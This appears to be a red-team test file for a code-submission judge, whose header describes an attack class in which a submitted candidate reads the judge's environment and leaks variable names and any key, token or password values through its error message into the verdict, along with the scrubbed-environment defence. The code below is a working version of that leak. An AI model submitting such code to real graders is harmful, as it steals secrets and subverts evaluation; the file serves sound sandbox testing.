# Class 15, reading the judge's environment: reading os.environ passes the static checks since judge 17
# (a build reads TORCH_CUDA_ARCH_LIST), so the candidate puts the name of every variable it sees, and the
# value of any that looks like a key or a token, in its error message, which ends up in the verdict.
# Defence: the worker's environment is scrubbed (sandbox.scrubbed_env): nothing of the judge's, no keys or
# tokens. redteam/test_sandbox.py plants a secret in the judge's environment and looks for it in the verdict.
import os

import torch.nn as nn

_SECRET = ("KEY", "TOKEN", "SECRET", "PASSWORD", "KERNELCRAFT")
names = sorted(os.environ.keys())
values = [f"{k}={os.environ[k]}" for k in names if any(s in k.upper() for s in _SECRET)]
raise RuntimeError("kc-redteam-env: " + ",".join(names) + " | " + " | ".join(values))


class ModelNew(nn.Module):
    def forward(self, x):
        return x
